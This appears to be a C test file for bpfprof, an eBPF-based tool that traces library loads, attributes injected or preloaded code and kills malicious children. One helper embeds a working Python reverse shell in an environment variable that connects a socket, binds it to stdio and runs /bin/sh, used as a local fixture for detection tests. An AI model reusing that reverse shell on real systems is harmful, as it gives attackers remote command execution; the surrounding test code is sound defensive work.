	json_array_foreach(events, i, e) {
		if (strcmp(json_string_value(json_object_get(e, "type")), "gate") ||
		    !json_is_true(json_object_get(e, "timed_out")))
			continue;
		late++;
		killed += !strcmp(json_string_value(json_object_get(e, "action")), "kill") &&
			  !strcmp(json_string_value(json_object_get(e, "reason")), "timeout");
	}
	cr_assert_eq(killed, 1, "no gate line says the timeout killed it (%zu late)", late);
	json_decref(events);
	unlink(out);

	cr_assert_eq(run(open_, NULL), 0, "fail-open past the timeout must let it run");
	events = read_events(out);
	late = 0;
	json_array_foreach(events, i, e)
		late += !strcmp(json_string_value(json_object_get(e, "type")), "gate") &&
			json_is_true(json_object_get(e, "timed_out")) &&
			!strcmp(json_string_value(json_object_get(e, "action")), "resume");
	cr_assert_geq(late, 1, "no resumed gate line is marked timed_out");
	cr_assert_not_null(find_event(events, "verdict", "libbenign.so"),
			   "the load was not judged after the timeout");
	json_decref(events);
	unlink(out);
}

/* An injector names its target in its own pid namespace: the window (and,
 * under the gate, the stop) belongs to that process, never to the host's
 * process of the same number (2: kthreadd). */
Test(trace, an_injection_from_a_pid_namespace_opens_the_window_of_its_real_target)
{
	char out[128], victim_file[128];
	char *argv[] = { BPFPROF_BIN, "trace", "--gate", "--json", "-o", out, "--",
			 FIXTURE_DIR "/inject_ns", victim_file, NULL };
	json_t *events, *e;
	long victim = 0;
	int windows = 0, stops = 0;
	size_t i;
	FILE *f;

	tmp_output(out, sizeof(out), "injns");
	snprintf(victim_file, sizeof(victim_file), "/tmp/bpfprof-test-injns-victim-%d",
		 (int)getpid());
	cr_assert_eq(run(argv, NULL), 0);
	f = fopen(victim_file, "r");
	cr_assert_not_null(f);
	cr_assert_eq(fscanf(f, "%ld", &victim), 1);
	fclose(f);
	cr_assert_gt(victim, 2);
	events = read_events(out);
	json_array_foreach(events, i, e) {
		const char *t = json_string_value(json_object_get(e, "type"));
		const char *pivot = json_string_value(json_object_get(e, "pivot"));
		const char *path = json_string_value(json_object_get(e, "path"));

		if (t && !strcmp(t, "gate") && path && !strncmp(path, "[inject", 7)) {
			stops++;
			cr_expect_eq(json_integer_value(json_object_get(e, "pid")), victim,
				     "the gate stopped another process than the victim (%ld)", victim);
		}
		if (!t || strcmp(t, "window") || !pivot || strcmp(pivot, "inject"))
			continue;
		windows++;
		cr_expect_eq(json_integer_value(json_object_get(e, "pid")), victim,
			     "the injection's window is not the victim's (host pid %ld)", victim);
	}
	cr_expect_eq(windows, 1, "%d injection windows", windows);
	/* this host kind has bpf_send_signal_task (probe: injection_gate) */
	cr_expect_eq(stops, 1, "%d gate stops at the injection", stops);
	json_decref(events);
	unlink(out);
	unlink(victim_file);
}

Test(trace, a_soname_loaded_already_is_judged_as_the_file_it_maps)
{
	char out[128];
	char *argv[] = { BPFPROF_BIN, "trace", "--json", "-o", out, "--",
			 FIXTURE_DIR "/loader", "libz.so.1", NULL };
	/* libz is in the process before the dlopen: the loader maps nothing */
	char *env[] = { "LD_PRELOAD=libz.so.1", NULL };
	json_t *events, *v, *pkg;

	if (access("/var/lib/dpkg/info", F_OK))
		cr_skip_test("needs dpkg's database");
	tmp_output(out, sizeof(out), "soname");
	cr_assert_eq(run(argv, env), 0);
	events = read_events(out);
	v = find_event(events, "verdict", "libz.so.1");
	cr_assert_not_null(v);
	cr_assert(json_is_number(json_object_get(json_object_get(v, "components"), "source")),
		  "libz.so.1 was not attributed to a file: no source");
	pkg = reason(v, "path_system");
	cr_assert_not_null(pkg);
	cr_assert(strstr(json_string_value(json_object_get(pkg, "detail")), "libz.so.1."),
		  "not the mapped file: %s", json_string_value(json_object_get(pkg, "detail")));
	cr_assert_not_null(reason(v, "package_owned"));
	json_decref(events);
	unlink(out);
}

/* Whether a token is in a window event's part. */
/* ld.so maps a preloaded library and then libc, and only then runs the
 * library's constructor: its calls come in libc's window. The kernel says
 * whose code made each call, and the call is the library's. Its calls are
 * resolved at run time (nothing for the static analysis to predict), so
 * only this attribution puts them against the library. */
Test(trace, a_preloaded_constructor_s_calls_are_its_library_s_not_libc_s)
{
	char out[128], port_env[64];
	int port, lfd = listen_local(&port);
	char *argv[] = { BPFPROF_BIN, "trace", "--json", "-o", out, "--", "/usr/bin/env",
			 "LD_PRELOAD=" FIXTURE_DIR "/libhidden.so", "/bin/true", NULL };
	char *env[] = { port_env, NULL };
	json_int_t library = 0;
	bool given = false, in_libc = false;
	json_t *events, *e;
	size_t i;

	tmp_output(out, sizeof(out), "hidden");
	snprintf(port_env, sizeof(port_env), "BPFPROF_CALLBACK_PORT=%d", port);
	cr_assert_eq(run(argv, env), 0);
	close(lfd);
	events = read_events(out);
	e = find_event(events, "window", "libhidden.so");
	cr_assert_not_null(e, "no window for the preloaded library");
	library = json_integer_value(json_object_get(e, "window"));
	json_array_foreach(events, i, e) {
		const char *type = json_string_value(json_object_get(e, "type"));
		const char *path = json_string_value(json_object_get(e, "path"));

		if (!strcmp(type, "window") && strstr(path, "/libc.so"))
			in_libc |= part_has(e, "follow", "connect:inet");
		if (!strcmp(type, "call") &&
		    !strcmp(json_string_value(json_object_get(e, "token")), "connect:inet") &&
		    json_integer_value(json_object_get(e, "window")) == library)
			given |= !strcmp(json_string_value(json_object_get(e, "part")), "watch") &&
				 json_object_get(e, "from_window");
	}
	cr_assert(given, "the constructor's connect was not given to libhidden.so's window");
	cr_assert_not(in_libc, "libc's window has the constructor's connect");
	json_decref(events);
	unlink(out);
}

/* Whether pid is gone (a zombie has been killed too). */
static bool process_gone(pid_t pid)
{
	char path[64], state = 0;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
	f = fopen(path, "r");
	if (!f)
		return true;
	if (fscanf(f, "%*d (%*[^)]) %c", &state) != 1)
		state = 0;
	fclose(f);
	return state == 'Z' || state == 'X';
}

/* Runs `trace --enforce -- CMD` where CMD loads libchildshell.so, whose
 * detached child runs a python reverse shell from the environment: the
 * library must be judged high at point `watch` and the shell killed. */
static void detached_child_shell_is_killed_at_watch(char *const cmd[])
{
	char out[128], port_env[64], marker[160], marker_env[200], got[32], *argv[16];
	int port, lfd = listen_local(&port);
	char *env[] = { port_env, marker_env,
			"BPFPROF_CHILD_PROGRAM=import os, socket, sys\n"
			"s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
			"for fd in (0, 1, 2):\n"
			"    os.dup2(s.fileno(), fd)\n"
			"os.execl('/bin/sh', 'sh', '-c', 'sleep 20')\n",
			NULL };
	json_t *events, *e;
	bool watched_high = false;
	size_t i;
	pid_t shell;

	if (access("/usr/bin/python3", X_OK))
		cr_skip_test("python3 is not installed (scripts/deps.sh installs it)");
	trace_argv(argv, sizeof(argv) / sizeof(*argv), out, (char *[]){ "--enforce", NULL }, cmd);
	snprintf(port_env, sizeof(port_env), "BPFPROF_CALLBACK_PORT=%d", port);
	snprintf(marker, sizeof(marker), "/tmp/bpfprof-childshell-%d", (int)getpid());
	snprintf(marker_env, sizeof(marker_env), "BPFPROF_MARKER=%s", marker);
	tmp_output(out, sizeof(out), "childshell");
	unlink(marker);
	run(argv, env);
	close(lfd);
	read_marker(marker, got, sizeof(got));
	shell = (pid_t)atoi(got);
	cr_assert_gt(shell, 1, "the child wrote no pid: %s", got);
	events = read_events(out);
	json_array_foreach(events, i, e) {
		const char *type = json_string_value(json_object_get(e, "type"));
		const char *path = json_string_value(json_object_get(e, "path"));
		const char *point = json_string_value(json_object_get(e, "point"));
		const char *level = json_string_value(json_object_get(e, "level"));

		if (strcmp(type, "verdict") || !strstr(path, "libchildshell.so") || !point)
			continue;
		watched_high |= !strcmp(point, "watch") && !strcmp(level, "high") &&
				!strcmp(json_string_value(json_object_get(e, "action")), "quarantine");
	}
	if (!process_gone(shell))
		kill(shell, SIGKILL);
	cr_assert(watched_high, "the library was not judged high (quarantine) at watch");
	cr_assert(process_gone(shell), "the child's shell (pid %d) still runs", (int)shell);
	json_decref(events);
	unlink(marker);
	unlink(out);
}

/* A constructor that only forks a detached child exec'ing an interpreter
 * looks harmless at the gate; the child's reverse shell (connect, the
 * socket as stdio, a shell) runs in windows of its own (python3's image,
 * its modules). Those calls are still the library's watch: it is judged
 * high at point watch, and enforcement kills the shell it left behind —
 * not only the loader, long gone. */
Test(trace, a_constructor_s_detached_child_shell_is_judged_and_killed_at_watch)
{
	char *cmd[] = { "/bin/sh", "-c",
			FIXTURE_DIR "/loader " FIXTURE_DIR "/libchildshell.so; sleep 4", NULL };

	detached_child_shell_is_killed_at_watch(cmd);
}

/* The same when the loader exits right after its dlopen: trace waits for
 * the processes the library started (it is their subreaper) until they
 * exit or the watch horizon ends, so the child is still judged and killed. */
Test(trace, a_detached_child_outliving_its_loader_is_still_judged)
{
	char *cmd[] = { FIXTURE_DIR "/loader", FIXTURE_DIR "/libchildshell.so", NULL };

	detached_child_shell_is_killed_at_watch(cmd);
}
